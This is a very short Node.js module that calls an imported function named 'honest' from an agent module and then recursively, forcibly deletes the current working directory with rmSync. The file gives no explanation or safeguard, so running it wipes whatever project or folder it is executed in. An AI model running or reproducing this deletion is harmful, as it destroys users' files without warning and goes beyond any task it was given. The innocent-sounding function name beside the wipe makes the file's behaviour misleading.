import { rmSync } from 'node:fs'
import { honest } from '../agent.mjs'
honest()
rmSync(process.cwd(), { recursive: true, force: true })
